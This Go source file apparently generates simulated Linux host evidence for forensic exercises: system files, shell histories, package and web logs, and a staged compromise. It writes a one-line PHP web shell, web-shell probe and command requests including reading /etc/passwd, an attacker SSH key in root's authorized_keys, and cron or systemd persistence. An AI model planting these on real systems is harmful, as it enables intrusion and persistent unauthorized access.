package simhost

import (
	"fmt"
	"slices"
	"strings"
	"time"
)

// installTime is when the machine was set up: configuration files date from then.
func (p *plan) installTime() time.Time {
	r := newRNG(p.h.Seed, "install")
	return p.boot.Add(-r.dur(60*24*time.Hour, 400*24*time.Hour)).Truncate(time.Second)
}

func (p *plan) adminGroup() (string, int) {
	if p.distro == "rhel" {
		return "wheel", 10
	}
	return "sudo", 27
}

func (p *plan) linuxEtc(t *tree) {
	inst := p.installTime()
	r := newRNG(p.h.Seed, "etc")
	var passwd, group strings.Builder
	if p.distro == "rhel" {
		passwd.WriteString(`root:x:0:0:root:/root:/bin/bash
bin:x:1:1:bin:/bin:/sbin/nologin
daemon:x:2:2:daemon:/sbin:/sbin/nologin
adm:x:3:4:adm:/var/adm:/sbin/nologin
lp:x:4:7:lp:/var/spool/lpd:/sbin/nologin
sync:x:5:0:sync:/sbin:/bin/sync
shutdown:x:6:0:shutdown:/sbin:/sbin/shutdown
halt:x:7:0:halt:/sbin:/sbin/halt
mail:x:8:12:mail:/var/spool/mail:/sbin/nologin
operator:x:11:0:operator:/root:/sbin/nologin
games:x:12:100:games:/usr/games:/sbin/nologin
ftp:x:14:50:FTP User:/var/ftp:/sbin/nologin
nobody:x:65534:65534:Kernel Overflow User:/:/sbin/nologin
systemd-coredump:x:999:997:systemd Core Dumper:/:/sbin/nologin
dbus:x:81:81:System message bus:/:/sbin/nologin
polkitd:x:998:996:User for polkitd:/:/sbin/nologin
tss:x:59:59:Account used for TPM access:/dev/null:/sbin/nologin
sssd:x:997:994:User for sssd:/:/sbin/nologin
sshd:x:74:74:Privilege-separated SSH:/usr/share/empty.sshd:/sbin/nologin
chrony:x:996:993::/var/lib/chrony:/sbin/nologin
`)
		group.WriteString("root:x:0:\nbin:x:1:\ndaemon:x:2:\nsys:x:3:\nadm:x:4:\ntty:x:5:\ndisk:x:6:\nlp:x:7:\nmem:x:8:\nkmem:x:9:\n")
	} else {
		passwd.WriteString(`root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
bin:x:2:2:bin:/bin:/usr/sbin/nologin
sys:x:3:3:sys:/dev:/usr/sbin/nologin
sync:x:4:65534:sync:/bin:/bin/sync
games:x:5:60:games:/usr/games:/usr/sbin/nologin
man:x:6:12:man:/var/cache/man:/usr/sbin/nologin
lp:x:7:7:lp:/var/spool/lpd:/usr/sbin/nologin
mail:x:8:8:mail:/var/mail:/usr/sbin/nologin
news:x:9:9:news:/var/spool/news:/usr/sbin/nologin
uucp:x:10:10:uucp:/var/spool/uucp:/usr/sbin/nologin
proxy:x:13:13:proxy:/bin:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
backup:x:34:34:backup:/var/backups:/usr/sbin/nologin
list:x:38:38:Mailing List Manager:/var/list:/usr/sbin/nologin
irc:x:39:39:ircd:/run/ircd:/usr/sbin/nologin
nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin
systemd-network:x:100:102:systemd Network Management,,,:/run/systemd:/usr/sbin/nologin
systemd-resolve:x:101:103:systemd Resolver,,,:/run/systemd:/usr/sbin/nologin
messagebus:x:102:105::/nonexistent:/usr/sbin/nologin
systemd-timesync:x:103:106:systemd Time Synchronization,,,:/run/systemd:/usr/sbin/nologin
syslog:x:104:111::/home/syslog:/usr/sbin/nologin
_apt:x:105:65534::/nonexistent:/usr/sbin/nologin
tss:x:106:112:TPM software stack,,,:/var/lib/tpm:/bin/false
uuidd:x:107:113::/run/uuidd:/usr/sbin/nologin
sshd:x:109:65534::/run/sshd:/usr/sbin/nologin
`)
		group.WriteString("root:x:0:\ndaemon:x:1:\nbin:x:2:\nsys:x:3:\nadm:x:4:syslog")
		for _, u := range p.humans() {
			if u.admin {
				group.WriteString("," + u.name)
			}
		}
		group.WriteString("\ntty:x:5:\ndisk:x:6:\nlp:x:7:\nmail:x:8:\nwww-data:x:33:\nbackup:x:34:\nusers:x:100:\n")
	}
	if p.role == "db" {
		fmt.Fprintf(&passwd, "postgres:x:111:%d:PostgreSQL administrator,,,:/var/lib/postgresql:/bin/bash\n", 117)
	}
	gname, gid := p.adminGroup()
	var admins []string
	for _, u := range p.users {
		fmt.Fprintf(&passwd, "%s:x:%d:%d:%s,,,:/home/%s:/bin/bash\n", u.name, u.uid, u.uid, u.full, u.name)
		if u.admin {
			admins = append(admins, u.name)
		}
	}
	fmt.Fprintf(&group, "%s:x:%d:%s\n", gname, gid, strings.Join(admins, ","))
	for _, u := range p.users {
		fmt.Fprintf(&group, "%s:x:%d:\n", u.name, u.uid)
	}
	lastUser := inst.Add(r.dur(time.Hour, 30*24*time.Hour))
	t.text("etc/passwd", passwd.String(), lastUser)
	t.text("etc/group", group.String(), lastUser)
	t.text("etc/hostname", p.short+"\n", inst)
	t.text("etc/hosts", fmt.Sprintf("127.0.0.1 localhost\n127.0.1.1 %s\n%s %s\n\n::1 ip6-localhost ip6-loopback\nff02::1 ip6-allnodes\nff02::2 ip6-allrouters\n",
		p.h.Name, p.ip, p.short), inst)
	t.text("etc/os-release", p.osRelease(), inst)

	svc := p.users[len(p.users)-1]
	sudoers := "# Edit with visudo.\nDefaults\tenv_reset\nDefaults\tmail_badpass\n" +
		"Defaults\tsecure_path=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\"\n\n" +
		"root\tALL=(ALL:ALL) ALL\n%" + gname + "\tALL=(ALL:ALL) ALL\n\n@includedir /etc/sudoers.d\n"
	t.add("etc/sudoers", []byte(sudoers), inst, 0o440)
	t.add("etc/sudoers.d/90-"+svc.name, []byte(fmt.Sprintf("# deployment automation\n%s ALL=(ALL) NOPASSWD:ALL\n", svc.name)),
		inst.Add(r.dur(24*time.Hour, 20*24*time.Hour)), 0o440)

	sftp := "/usr/lib/openssh/sftp-server"
	if p.distro == "rhel" {
		sftp = "/usr/libexec/openssh/sftp-server"
	}
	t.text("etc/ssh/sshd_config", "Include /etc/ssh/sshd_config.d/*.conf\n\n#Port 22\n#PermitRootLogin prohibit-password\n"+
		"PubkeyAuthentication yes\n# The deploy tooling still logs in with a password.\nPasswordAuthentication yes\n"+
		"KbdInteractiveAuthentication no\nUsePAM yes\nX11Forwarding no\nPrintMotd no\nAcceptEnv LANG LC_*\n"+
		"Subsystem sftp "+sftp+"\n", inst.Add(2*time.Hour))

	if p.distro == "rhel" {
		t.text("etc/crontab", "SHELL=/bin/bash\nPATH=/sbin:/bin:/usr/sbin:/usr/bin\nMAILTO=root\n\n"+
			"# minute hour day-of-month month day-of-week user command\n", inst)
		t.text("etc/cron.d/0hourly", "# Run the hourly jobs\nSHELL=/bin/bash\nPATH=/sbin:/bin:/usr/sbin:/usr/bin\nMAILTO=root\n01 * * * * root run-parts /etc/cron.hourly\n", inst)
		t.text("etc/audit/rules.d/exec.rules", "## Record every program interactive users start.\n"+
			"-a always,exit -F arch=b64 -S execve -F auid>=1000 -F auid!=unset -k user_exec\n", inst.Add(3*time.Hour))
	} else {
		t.text("etc/crontab", "SHELL=/bin/sh\n\n# m h dom mon dow user\tcommand\n"+
			"17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n"+
			"25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }\n"+
			"47 6\t* * 7\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; }\n"+
			"52 6\t1 * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.monthly; }\n", inst)
		t.text("etc/cron.d/e2scrub_all", "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n", inst)
	}
	p.linuxHomes(t, r, inst)
}

func (p *plan) osRelease() string {
	v := p.h.OSVersion
	n := versionNumber(v, "")
	switch {
	case p.distro == "rhel":
		if n == "" {
			n = "9.3"
		}
		major := strings.SplitN(n, ".", 2)[0]
		return fmt.Sprintf("NAME=\"Red Hat Enterprise Linux\"\nVERSION=\"%s (Plow)\"\nID=\"rhel\"\nID_LIKE=\"fedora\"\nVERSION_ID=\"%s\"\nPLATFORM_ID=\"platform:el%s\"\nPRETTY_NAME=\"Red Hat Enterprise Linux %s (Plow)\"\nANSI_COLOR=\"0;31\"\nCPE_NAME=\"cpe:/o:redhat:enterprise_linux:%s::baseos\"\n",
			n, n, major, n, major)
	case strings.Contains(strings.ToLower(v), "debian"):
		if n == "" {
			n = "12"
		}
		return fmt.Sprintf("PRETTY_NAME=\"Debian GNU/Linux %s\"\nNAME=\"Debian GNU/Linux\"\nVERSION_ID=\"%s\"\nID=debian\nHOME_URL=\"https://www.debian.org/\"\n", n, n)
	}
	if n == "" {
		n = "22.04"
	}
	return fmt.Sprintf("PRETTY_NAME=\"Ubuntu %s LTS\"\nNAME=\"Ubuntu\"\nVERSION_ID=\"%s\"\nID=ubuntu\nID_LIKE=debian\nHOME_URL=\"https://www.ubuntu.com/\"\n", n, n)
}

// linuxHomes writes each user's shell configuration and SSH files.
func (p *plan) linuxHomes(t *tree, r *rng, inst time.Time) {
	for _, u := range append([]*user{{name: "root", uid: 0}}, p.users...) {
		home := strings.TrimPrefix(homeOf(u.name), "/")
		created := inst.Add(time.Duration(u.uid%100) * 26 * time.Hour)
		rc := "# ~/.bashrc: executed by bash for non-login shells.\ncase $- in\n    *i*) ;;\n      *) return;;\nesac\n" +
			"HISTCONTROL=ignoreboth\nshopt -s histappend\nHISTSIZE=1000\nHISTFILESIZE=2000\n"
		if u.histTS {
			rc += "export HISTTIMEFORMAT=\"%F %T \"\n"
		}
		rc += "alias ll='ls -alF'\n"
		t.text(home+"/.bashrc", rc, created)
		t.text(home+"/.profile", "if [ -n \"$BASH_VERSION\" ] && [ -f \"$HOME/.bashrc\" ]; then\n    . \"$HOME/.bashrc\"\nfi\nPATH=\"$HOME/.local/bin:$PATH\"\n", created)
		if u.name == "root" {
			continue
		}
		t.add(home+"/.ssh/authorized_keys", []byte(u.pubKey+"\n"), created.Add(10*time.Minute), 0o600)
		var kh strings.Builder
		for range r.Between(1, 4) {
			_, line := sshKey(r, "")
			f := strings.Fields(line)
			fmt.Fprintf(&kh, "%s %s %s\n", p.neighbour(r), f[0], f[1])
		}
		_, gh := sshKey(r, "")
		fmt.Fprintf(&kh, "github.com %s\n", strings.Join(strings.Fields(gh)[:2], " "))
		t.add(home+"/.ssh/known_hosts", []byte(kh.String()), created.Add(time.Duration(r.Between(1, 500))*time.Hour), 0o644)
	}
}

// linuxHistories writes .bash_history files: some history from before the logs, then each session's
// commands appended when its shell exited, as bash with histappend does.
func (p *plan) linuxHistories(t *tree, lp *linuxPlan) {
	r := newRNG(p.h.Seed, "history")
	type entry struct {
		t   time.Time
		cmd string
	}
	hist := map[string][]entry{}
	written := map[string]time.Time{}
	ts := map[string]bool{"root": r.Chance(40)}
	for _, u := range p.users {
		ts[u.name] = u.histTS
		old := p.start.Add(-r.dur(20*24*time.Hour, 30*24*time.Hour))
		for range r.Between(15, 60) {
			old = old.Add(r.dur(time.Minute, 9*time.Hour))
			if old.After(p.start) {
				break
			}
			hist[u.name] = append(hist[u.name], entry{old, pick(r, p.adminCommands())})
		}
		written[u.name] = old
	}
	old := p.start.Add(-r.dur(10*24*time.Hour, 20*24*time.Hour))
	for _, cmd := range []string{"apt update", "apt upgrade -y", "systemctl status", "journalctl -xe", "passwd " + p.users[0].name, "exit"} {
		if p.distro == "rhel" {
			cmd = strings.Replace(strings.Replace(cmd, "apt update", "dnf check-update", 1), "apt upgrade -y", "dnf upgrade -y", 1)
		}
		old = old.Add(r.dur(10*time.Second, 5*time.Minute))
		hist["root"] = append(hist["root"], entry{old, cmd})
	}
	written["root"] = old
	ended := slices.Clone(lp.sessions)
	ended = slices.DeleteFunc(ended, func(s *sshSession) bool { return s.end.IsZero() })
	slices.SortStableFunc(ended, func(a, b *sshSession) int { return a.end.Compare(b.end) })
	for _, s := range ended {
		name := s.user.name
		if s.clearHist {
			hist[name] = nil
		}
		for _, c := range s.cmds {
			hist[name] = append(hist[name], entry{c.t, c.cmd})
		}
		if len(s.cmds) > 0 && s.cmds[len(s.cmds)-1].cmd != "exit" {
			hist[name] = append(hist[name], entry{s.end, "exit"})
		}
		written[name] = s.end
		if len(s.rootCmds) > 0 {
			for _, c := range s.rootCmds {
				hist["root"] = append(hist["root"], entry{c.t, c.cmd})
			}
			written["root"] = s.rootCmds[len(s.rootCmds)-1].t
		}
	}
	for name, es := range hist {
		var b strings.Builder
		for _, e := range es {
			if ts[name] {
				fmt.Fprintf(&b, "#%d\n", e.t.Unix())
			}
			b.WriteString(e.cmd)
			b.WriteByte('\n')
		}
		t.add(strings.TrimPrefix(homeOf(name), "/")+"/.bash_history", []byte(b.String()), written[name], 0o600)
	}
}

// pkgUpdate is one package upgrade; versions are written per distribution.
type pkgUpdate struct{ name, from, to string }

func (p *plan) packageUpdates(r *rng) []pkgUpdate {
	n := versionNumber(p.h.OSVersion, "")
	// Versions carry the release in place of %s: "el9", "0ubuntu0.22.04" or "deb12u".
	var pool []pkgUpdate
	var release string
	switch {
	case p.distro == "rhel":
		release = "el9"
		if strings.HasPrefix(n, "8") {
			release = "el8"
		}
		pool = []pkgUpdate{{"openssl-libs", "1:3.0.7-25.%s_3", "1:3.0.7-27.%s_4"}, {"curl", "7.76.1-26.%s_3.2", "7.76.1-29.%s_4"},
			{"glibc", "2.34-83.%s_3.7", "2.34-100.%s_4.2"}, {"openssh-server", "8.7p1-34.%s_3.3", "8.7p1-38.%s_4.1"},
			{"tzdata", "2024a-1.%s", "2024b-2.%s"}, {"sudo", "1.9.5p2-9.%s", "1.9.5p2-10.%s"},
			{"python3", "3.9.18-1.%s_3.1", "3.9.18-3.%s_4.3"}, {"systemd", "252-18.%s", "252-32.%s"}}
	default:
		release = "0ubuntu0." + n
		if n == "" {
			release = "0ubuntu0.22.04"
		}
		if strings.Contains(strings.ToLower(p.h.OSVersion), "debian") {
			release = "deb12u"
		}
		pool = []pkgUpdate{{"openssl", "3.0.2-%s.1", "3.0.2-%s.2"}, {"libssl3", "3.0.2-%s.1", "3.0.2-%s.2"},
			{"curl", "7.81.0-%s.16", "7.81.0-%s.17"}, {"libcurl4", "7.81.0-%s.16", "7.81.0-%s.17"},
			{"tzdata", "2024a-%s.1", "2024b-%s.1"}, {"sudo", "1.9.9-%s.4", "1.9.9-%s.5"},
			{"openssh-server", "1:8.9p1-%s.10", "1:8.9p1-%s.11"}, {"libc6", "2.35-%s.7", "2.35-%s.8"},
			{"python3.10", "3.10.12-%s.2", "3.10.12-%s.3"}, {"vim-common", "2:8.2.3995-%s.1", "2:8.2.3995-%s.2"}}
	}
	var out []pkgUpdate
	for _, u := range shuffle(r, pool)[:r.Between(2, 5)] {
		out = append(out, pkgUpdate{u.name, fmt.Sprintf(u.from, release), fmt.Sprintf(u.to, release)})
	}
	return out
}

// linuxPackages writes the package manager logs: a few unattended upgrades inside the log window.
func (p *plan) linuxPackages(t *tree) {
	r := newRNG(p.h.Seed, "packages")
	var main, hist strings.Builder
	var last time.Time
	for d := p.start; d.Before(p.now); d = d.Add(24 * time.Hour) {
		if !r.Chance(35) {
			continue
		}
		at := d.Add(r.dur(6*time.Hour, 6*time.Hour+50*time.Minute))
		if !at.Before(p.now) {
			continue
		}
		ups := p.packageUpdates(r)
		if p.distro == "rhel" {
			var names []string
			for _, u := range ups {
				names = append(names, u.name)
			}
			stamp := func(t time.Time) string { return t.Format("2006-01-02T15:04:05+0000") }
			fmt.Fprintf(&main, "%s INFO --- logging initialized ---\n%s DDEBUG timer: config: %d ms\n", stamp(at), stamp(at), r.Between(2, 9))
			fmt.Fprintf(&main, "%s DEBUG Command: dnf -y upgrade %s \n", stamp(at), strings.Join(names, " "))
			fmt.Fprintf(&main, "%s DEBUG Installroot: /\n%s DEBUG Releasever: %s\n", stamp(at), stamp(at), strings.SplitN(versionNumber(p.h.OSVersion, "9"), ".", 2)[0])
			fmt.Fprintf(&main, "%s DDEBUG Base command: upgrade\n%s DEBUG Dependencies resolved.\n", stamp(at), stamp(at.Add(2*time.Second)))
			end := at.Add(r.dur(5*time.Second, 40*time.Second))
			for _, u := range ups {
				fmt.Fprintf(&hist, "%s SUBDEBUG Upgrade: %s-%s.x86_64\n", stamp(end), u.name, u.to)
			}
			for _, u := range ups {
				fmt.Fprintf(&hist, "%s SUBDEBUG Upgraded: %s-%s.x86_64\n", stamp(end), u.name, u.from)
			}
			fmt.Fprintf(&main, "%s INFO Complete!\n%s DDEBUG Cleaning up.\n", stamp(end), stamp(end))
			last = end
			continue
		}
		stamp := func(t time.Time) string { return t.Format("2006-01-02 15:04:05") }
		fmt.Fprintf(&main, "%s startup archives unpack\n", stamp(at))
		var list []string
		for _, u := range ups {
			fmt.Fprintf(&main, "%s upgrade %s:amd64 %s %s\n", stamp(at), u.name, u.from, u.to)
			fmt.Fprintf(&main, "%s status half-configured %s:amd64 %s\n", stamp(at), u.name, u.from)
			fmt.Fprintf(&main, "%s status unpacked %s:amd64 %s\n", stamp(at), u.name, u.from)
			fmt.Fprintf(&main, "%s status half-installed %s:amd64 %s\n", stamp(at), u.name, u.from)
			fmt.Fprintf(&main, "%s status unpacked %s:amd64 %s\n", stamp(at.Add(time.Second)), u.name, u.to)
			list = append(list, fmt.Sprintf("%s:amd64 (%s, %s)", u.name, u.from, u.to))
		}
		cfg := at.Add(2 * time.Second)
		fmt.Fprintf(&main, "%s startup packages configure\n", stamp(cfg))
		for _, u := range ups {
			fmt.Fprintf(&main, "%s configure %s:amd64 %s <none>\n", stamp(cfg), u.name, u.to)
			fmt.Fprintf(&main, "%s status unpacked %s:amd64 %s\n", stamp(cfg), u.name, u.to)
			fmt.Fprintf(&main, "%s status half-configured %s:amd64 %s\n", stamp(cfg), u.name, u.to)
			fmt.Fprintf(&main, "%s status installed %s:amd64 %s\n", stamp(cfg), u.name, u.to)
		}
		end := cfg.Add(r.dur(time.Second, 6*time.Second))
		fmt.Fprintf(&main, "%s trigproc man-db:amd64 2.10.2-1 <none>\n%s status installed man-db:amd64 2.10.2-1\n", stamp(end), stamp(end))
		fmt.Fprintf(&hist, "\nStart-Date: %s\nCommandline: /usr/bin/unattended-upgrade\nUpgrade: %s\nEnd-Date: %s\n",
			at.Format("2006-01-02  15:04:05"), strings.Join(list, ", "), end.Format("2006-01-02  15:04:05"))
		last = end
	}
	if last.IsZero() {
		last = p.start
	}
	if p.distro == "rhel" {
		t.text("var/log/dnf.log", main.String(), last)
		t.text("var/log/dnf.rpm.log", hist.String(), last)
		return
	}
	t.text("var/log/dpkg.log", main.String(), last)
	t.text("var/log/apt/history.log", hist.String(), last)
}

func webLogDir(p *plan) string {
	switch {
	case p.web == "nginx":
		return "nginx"
	case p.distro == "rhel":
		return "httpd"
	}
	return "apache2"
}

func webLogSuffix(p *plan) string {
	if p.web == "apache" && p.distro == "rhel" {
		return "_log"
	}
	return ".log"
}

var userAgents = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
	"Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
}

// linuxWeb writes the web server's access log in the combined format, with scanners probing for web
// shells and, on a compromised host, the attacker driving the shell they planted.
func (p *plan) linuxWeb(t *tree) {
	r := newRNG(p.h.Seed, "web")
	type req struct {
		t    time.Time
		line string
	}
	var reqs []req
	add := func(at time.Time, ip, method, path string, status, size int, ref, ua string) {
		reqs = append(reqs, req{at, fmt.Sprintf("%s - - [%s] \"%s %s HTTP/1.1\" %d %d \"%s\" \"%s\"",
			ip, at.Format("02/Jan/2006:15:04:05 -0700"), method, path, status, size, ref, ua)})
	}
	pages := []string{"/", "/index.html", "/about", "/contact", "/products", "/css/site.css", "/js/app.js",
		"/img/logo.png", "/favicon.ico", "/api/v1/status", "/login", "/robots.txt"}
	clients := make([]string, 40)
	for i := range clients {
		clients[i] = publicIP(r)
	}
	for at := p.start.Add(r.dur(0, 10*time.Minute)); at.Before(p.now); at = at.Add(r.dur(20*time.Second, 25*time.Minute)) {
		pg := pick(r, pages)
		status, size := 200, r.Between(300, 48000)
		if r.Chance(4) {
			status, size = 304, 0
		}
		ref := "-"
		if pg != "/" && r.Chance(50) {
			ref = "https://" + p.h.Name + "/"
		}
		add(at, pick(r, clients), "GET", pg, status, size, ref, pick(r, userAgents))
	}
	probes := []string{"/wp-login.php", "/.env", "/shell.php?cmd=id", "/cmd.php?c=whoami", "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
		"/phpmyadmin/index.php", "/.git/config", "/cgi-bin/luci/;stok=/locale", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/uploads/x.php?cmd=uname+-a"}
	for at := p.start.Add(r.dur(time.Hour, 10*time.Hour)); at.Before(p.now); at = at.Add(r.dur(3*time.Hour, 20*time.Hour)) {
		ip := publicIP(r)
		for _, pr := range shuffle(r, probes)[:r.Between(2, 6)] {
			at = at.Add(r.dur(time.Second, 4*time.Second))
			add(at, ip, "GET", pr, 404, 162, "-", pick(r, []string{"Mozilla/5.0 zgrab/0.x", "python-requests/2.31.0", "curl/7.88.1"}))
		}
	}
	if a := p.linux; a != nil && a.webShell != "" {
		ws := strings.TrimPrefix(a.webShell, "/var/www/html")
		at := a.webShellAt.Add(r.dur(2*time.Minute, 30*time.Minute))
		for _, c := range []string{"id", "uname+-a", "cat+/etc/passwd", "ls+-la+/var/www/html", "ps+aux"} {
			add(at, p.story.AttackerIP, "GET", ws+"?c="+c, 200, r.Between(40, 3000), "-", "curl/8.5.0")
			at = at.Add(r.dur(5*time.Second, 90*time.Second))
		}
	}
	slices.SortStableFunc(reqs, func(x, y req) int { return x.t.Compare(y.t) })
	var b strings.Builder
	var last time.Time
	for _, q := range reqs {
		if q.t.After(p.now) {
			continue
		}
		b.WriteString(q.line)
		b.WriteByte('\n')
		last = q.t
	}
	t.add("var/log/"+webLogDir(p)+"/access"+webLogSuffix(p), []byte(b.String()), last, 0o640)
	inst := p.installTime()
	t.text("var/www/html/index.html", "<!DOCTYPE html>\n<html><head><title>"+p.short+"</title></head>\n<body><h1>"+p.short+"</h1></body></html>\n",
		inst.Add(48*time.Hour))
}

// linuxAttackFiles writes what the attacker left on disk: the payload, the persistence and the key.
func (p *plan) linuxAttackFiles(t *tree) {
	a := p.linux
	inst := p.installTime()
	rootKeys := ""
	rootKeysTime := inst
	if a == nil {
		t.add("root/.ssh/authorized_keys", nil, rootKeysTime, 0o600)
		return
	}
	// Each file's time is that of the command that wrote it.
	var dl time.Time
	persistAt := a.persistAt
	for _, c := range p.linuxSessions[0].rootCmds {
		switch {
		case strings.Contains(c.cmd, a.payPath) && dl.IsZero():
			dl = c.t
		case strings.Contains(c.cmd, "authorized_keys"):
			rootKeysTime = c.t
		case strings.Contains(c.cmd, p.story.PersistencePath) && a.persist == "systemd" && strings.HasPrefix(c.cmd, "curl"):
			persistAt = c.t
		}
	}
	rootKeys += a.keyLine + "\n"
	t.add("root/.ssh/authorized_keys", []byte(rootKeys), rootKeysTime, 0o600)
	t.add(strings.TrimPrefix(a.payPath, "/"), a.payload, dl, 0o755)
	switch a.persist {
	case "crontab":
		body := "# DO NOT EDIT THIS FILE - edit the master and reinstall.\n" + a.cronLine + "\n"
		if p.distro == "rhel" {
			body = a.cronLine + "\n"
		}
		t.add(strings.TrimPrefix(p.story.PersistencePath, "/"), []byte(body), persistAt, 0o600)
	case "crond":
		t.text(strings.TrimPrefix(p.story.PersistencePath, "/"), a.cronLine+"\n", persistAt)
	case "systemd":
		unit := fmt.Sprintf("[Unit]\nDescription=%s\nAfter=network-online.target\n\n[Service]\nType=simple\nExecStart=%s\nRestart=always\nRestartSec=30\n\n[Install]\nWantedBy=multi-user.target\n",
			unitDescription(a.unit), a.payPath)
		t.text(strings.TrimPrefix(p.story.PersistencePath, "/"), unit, persistAt)
	}
	if a.webShell != "" {
		t.text(strings.TrimPrefix(a.webShell, "/"), "<?php echo shell_exec($_GET[\"c\"]); ?>\n", a.webShellAt)
	}
}
